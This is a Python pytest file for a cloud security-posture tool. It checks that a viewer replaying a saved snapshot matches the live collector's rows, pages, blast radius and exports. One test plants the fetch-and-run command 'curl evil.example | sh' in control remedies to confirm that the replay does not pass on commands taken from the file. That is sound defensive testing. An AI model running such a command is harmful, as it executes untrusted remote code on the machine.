"""What a viewer holds after a snapshot, rows and details, equals what it held after the collector: of every kind
there is.
"""

from pathlib import Path
from typing import Any

import msgspec
import pytest

from posture.controls.registry import registry
from posture.fault import Fault, FaultKind
from posture.kinds import KINDS, is_listed
from posture.model import Model
from posture.policy import Policy
from posture.reports import Batch, Complete
from posture.resource import Resource
from posture.rollup import OWN
from posture.snapshot import Snapshot, take, to_json
from posture.source import Source
from providers.collector.blast import blast_radius, finished
from providers.collector.frames import Ask, Blast, Detail, Export, Notice, Open, Refresh
from providers.collector.publisher import Publisher
from providers.collector.replay import Replay
from tests.posture.controls.azure import world as azure_world
from tests.posture.controls.gcp import world
from tests.posture.controls.test_law import TYPES
from tests.posture.controls.world import NOW, denied
from tests.posture.scenes import KEY, MORE
from tests.providers.collector.viewer import shown
from tests.world import fleet

PARTS = (*TYPES.values(), *MORE, *azure_world.BESIDE, world.key(), KEY, *fleet.everything())


def _world() -> Model:
    """One resource and more of every type, with what each points at, as sources of four systems report them; one
    source has been refused since.
    """
    model = Model(registry(), {"acme": Policy(), "beta": Policy(regulated=True)}, NOW)
    seen: dict[str, list[Resource]] = {}
    for number, resource in enumerate({part.id: part for part in PARTS if part.provider != OWN}.values()):
        titles = KINDS[resource.kind].titles
        # not in the order of the titles' letters
        cells = tuple(f"{'zyxwvuts'[place]}-{title.lower()}" for place, title in enumerate(titles))
        source = f"acme/{resource.provider}/{resource.scope}/x"
        faults = {"x:Read": denied("x:Read")} if number % 7 == 3 else {}
        expires = NOW + 1000.0 * number if number % 5 == 0 else None
        tenant = "acme+beta" if number % 11 == 5 else "acme"
        faults |= resource.faults
        seen.setdefault(source, []).append(
            msgspec.structs.replace(resource, source=source, cells=cells, expires=expires, faults=faults, tenant=tenant)
        )
    for name, resources in seen.items():
        _, provider, scope, service = name.split("/")
        model.add_source(Source(name, "acme", provider, scope, service, 60.0))
        model.begin(name, NOW)
        model.apply(name, Batch(tuple(resources)), NOW + 1)
        model.apply(name, Complete(tuple({resource.type for resource in resources})), NOW + 1)
        model.finish(name, NOW + 2, fault=None, calls=3, seconds=0.25, next_due=None)
    first = next(iter(seen))
    model.begin(first, NOW + 60)
    model.apply(first, Batch(tuple(seen[first][1:])), NOW + 61)
    model.finish(
        first,
        NOW + 62,
        fault=Fault(FaultKind.DENIED, "AccessDenied", "x:List", "no", "x:List"),
        calls=1,
        seconds=0.1,
        next_due=None,
    )
    model.tick(NOW + 90)
    return model


@pytest.fixture(scope="module")
def live() -> Model:
    """The model of the collector."""
    return _world()


@pytest.fixture
def replay(live: Model, tmp_path: Path) -> Replay:
    """Its snapshot, from the file."""
    (tmp_path / "posture.json").write_bytes(to_json(take(live, NOW + 90, "1.2.3")))
    return Replay(tmp_path / "posture.json")


def test_every_kind_that_has_columns_is_in_this_world() -> None:
    assert {kind.name for kind in KINDS.values() if kind.columns} - {part.kind for part in PARTS} == {"lease-totals"}, (
        "no control judges one; its columns are texts like all others"
    )


def test_the_rows_findings_sources_and_roll_ups_are_those_of_the_collector(live: Model, replay: Replay) -> None:
    change = live.moved()
    change.resources.update(held.resource.id for held in live.all())
    change.sources.update(live.sources)
    change.tenants.update(live.rollups)
    told = shown(list(Publisher(live).frames(change)))
    again = shown(list(Publisher(replay.model).frames(replay.model.moved())))
    assert len(told["rows"]) == sum(is_listed(held.resource) for held in live.all())
    for what, held in told.items():
        assert again[what] == held, what


def test_the_page_of_each_resource_is_that_of_the_collector(live: Model, replay: Replay) -> None:
    publisher, other = Publisher(live), Publisher(replay.model)
    for held in live.all():
        if is_listed(held.resource):
            assert _page(other.detail(held.resource.id)) == _page(publisher.detail(held.resource.id))


def test_the_chain_and_the_blast_radius_of_each_resource_are_those_of_the_collector(
    live: Model, replay: Replay
) -> None:
    publisher, chains = Publisher(live), 0
    for held in live.all():
        for most in (2, 100):
            again = replay._answer(Blast(held.resource.id, most))
            assert again == finished(blast_radius(live, held.resource.id, most))
        page = replay._answer(Open(held.resource.id))
        assert isinstance(page, Detail)
        assert page.chain == publisher.detail(held.resource.id).chain
        chains += len(page.chain) == 5
    assert chains > 40


def test_what_links_name_by_another_name_is_found_on_the_page_too(replay: Replay) -> None:
    disk = replay.model.entry(TYPES["azure.compute.disk"].id)
    assert disk is not None
    page = Publisher(replay.model).detail(disk.resource.id)
    assert [link.status is not None for link in page.links] == [True]


def test_what_was_exported_of_a_snapshot_is_that_snapshot(live: Model, replay: Replay, tmp_path: Path) -> None:
    notice = replay._answer(Export(str(tmp_path / "again.json"), ""))
    assert isinstance(notice, Notice)
    assert notice.level == "information"
    assert (tmp_path / "again.json").read_bytes() == (tmp_path / "posture.json").read_bytes()


def test_a_part_can_be_exported_of_a_snapshot(replay: Replay, tmp_path: Path) -> None:
    replay._answer(Export(str(tmp_path / "part.json"), "kind:volume"))
    part = msgspec.json.decode((tmp_path / "part.json").read_bytes(), type=Snapshot)
    assert {entry.kind for entry in part.resources} == {"volume"}


def test_a_tenant_of_a_part_is_not_greener_than_the_part_says(live: Model, tmp_path: Path) -> None:
    part = take(live, NOW + 90, "1.2.3", query="status:pass")
    (tmp_path / "part.json").write_bytes(to_json(part))
    model = Replay(tmp_path / "part.json").model
    assert {tenant: rollup.status.word for tenant, rollup in model.rollups.items()} == {
        tenant: told.status for tenant, told in part.summary.tenants.items()
    }


def test_no_command_is_taken_from_the_file(live: Model, tmp_path: Path) -> None:
    snapshot = take(live, NOW + 90, "1.2.3")
    for control in snapshot.controls.values():
        control.remedy = "curl evil.example | sh"
    (tmp_path / "posture.json").write_bytes(to_json(snapshot))
    model = Replay(tmp_path / "posture.json").model
    for held in model.all():
        assert "evil" not in repr(Publisher(model).detail(held.resource.id).findings)


def test_news_are_not_to_be_had(replay: Replay) -> None:
    ask: Ask = Refresh()
    notice = replay._answer(ask)
    assert isinstance(notice, Notice)
    assert "nothing is polled" in notice.text


def _page(detail: Detail) -> Any:
    """A detail with its times to the second, as a snapshot has them; what an id is called elsewhere, and what was
    refused, is not on the page.
    """
    resource = detail.resource
    assert resource is not None
    fields, links = msgspec.json.decode(msgspec.json.encode(resource.fields)), tuple(sorted(resource.links, key=repr))
    whole = msgspec.structs.replace(
        detail,
        resource=msgspec.structs.replace(resource, faults={}, fields=fields, links=links),
        observed_at=int(detail.observed_at or 0),
        links=tuple(sorted(detail.links, key=repr)),
        users=tuple(sorted(detail.users, key=repr)),
        findings=tuple(msgspec.structs.replace(one, finding=_timed(one.finding)) for one in detail.findings),
    )
    return msgspec.to_builtins(whole)


def _timed(finding: Any) -> Any:
    evidence = msgspec.json.decode(msgspec.json.encode(finding.evidence))
    return msgspec.structs.replace(finding, since=int(finding.since), evidence=dict(sorted(evidence.items())))
